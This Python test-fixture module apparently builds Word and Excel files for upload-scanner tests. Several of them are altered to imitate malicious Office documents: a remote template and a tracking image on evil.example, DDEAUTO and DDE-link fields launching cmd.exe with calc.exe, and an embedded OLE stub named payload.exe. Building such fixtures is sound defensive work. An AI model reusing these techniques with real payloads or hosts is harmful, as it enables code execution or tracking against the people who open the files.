"""Word/Excel files for the upload tests, written by the libraries that write them in practice
(python-docx, openpyxl) and then, for the hostile ones, changed part by part the way attack files are:
a remote template, a DDEAUTO field, an embedded OLE object, a remote image, a DDE link in a workbook."""
import io
import zipfile

from tests.evidence_samples import ole_bytes

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
TEXT = "Ủy ban nhân dân tỉnh — Báo cáo kết quả cải cách hành chính năm 2022: giải quyết đúng hạn 98,5% hồ sơ."


def rezip(data: bytes, changes: dict) -> bytes:
    """The package ``data`` with parts replaced or added: name → bytes, or a function of the old text."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            change = changes.get(info.filename)
            if callable(change):
                content = change(content.decode("utf-8")).encode("utf-8")
            elif change is not None:
                content = change
            target.writestr(info.filename, content)
        for name, content in changes.items():
            if name not in source.namelist():
                target.writestr(name, content)
    return out.getvalue()


def add_relationship(rels: str, rel_id: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace("</Relationships>", f'<Relationship Id="{rel_id}" Type="{REL}/{kind}" '
                                            f'Target="{target}"{mode}/></Relationships>')


def docx(build=None) -> bytes:
    import docx as python_docx
    document = python_docx.Document()
    document.add_heading("Báo cáo tự đánh giá Chỉ số CCHC", level=1)
    document.add_paragraph(TEXT)
    if build:
        build(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def field(paragraph, instruction: str) -> None:
    """A complex field (begin, instruction, end) as Word writes it."""
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    for kind, text in (("begin", None), (None, instruction), ("end", None)):
        run = paragraph.add_run()._r
        if kind:
            element = OxmlElement("w:fldChar")
            element.set(qn("w:fldCharType"), kind)
        else:
            element = OxmlElement("w:instrText")
            element.set(qn("xml:space"), "preserve")
            element.text = text
        run.append(element)


def remote_template_docx() -> bytes:
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="{PKG_REL}"></Relationships>')
    return rezip(docx(), {
        "word/settings.xml": lambda xml: xml.replace(
            "<w:zoom ", f'<w:attachedTemplate xmlns:r="{REL}" r:id="rIdT1"/><w:zoom ', 1),
        "word/_rels/settings.xml.rels": add_relationship(rels, "rIdT1", "attachedTemplate",
                                                         "http://evil.example/mau-bao-cao.dotm").encode(),
    })


def ddeauto_docx() -> bytes:
    return docx(lambda d: field(d.add_paragraph(), 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))


def ole_object_docx() -> bytes:
    package = ole_bytes({"\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\x00MZ"})
    return rezip(docx(), {
        "word/embeddings/oleObject1.bin": package,
        "word/_rels/document.xml.rels": lambda rels: add_relationship(
            rels, "rIdO1", "oleObject", "embeddings/oleObject1.bin", external=False),
    })


def remote_image_docx() -> bytes:
    return rezip(docx(), {"word/_rels/document.xml.rels": lambda rels: add_relationship(
        rels, "rIdI1", "image", "http://evil.example/theo-doi.png")})


def xlsx(build=None) -> bytes:
    from openpyxl import Workbook
    book = Workbook()
    sheet = book.active
    sheet.title = "Tổng hợp điểm"
    sheet.append(["Mã", "Tiêu chí", "Điểm tối đa", "Điểm tự chấm"])
    for n in range(30):
        sheet.append([f"{n // 5 + 1}.{n % 5 + 1}", f"Tiêu chí thành phần số {n + 1}", 1, 0.75])
    sheet.append(["", "Tổng cộng", "=SUM(C2:C31)", "=SUM(D2:D31)"])
    if build:
        build(book, sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def dde_link_xlsx() -> bytes:
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink '
            'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>')
    return rezip(xlsx(), {"xl/externalLinks/externalLink1.xml": link.encode(),
                          "xl/_rels/workbook.xml.rels": lambda rels: add_relationship(
                              rels, "rIdE1", "externalLink", "externalLinks/externalLink1.xml", external=False)})
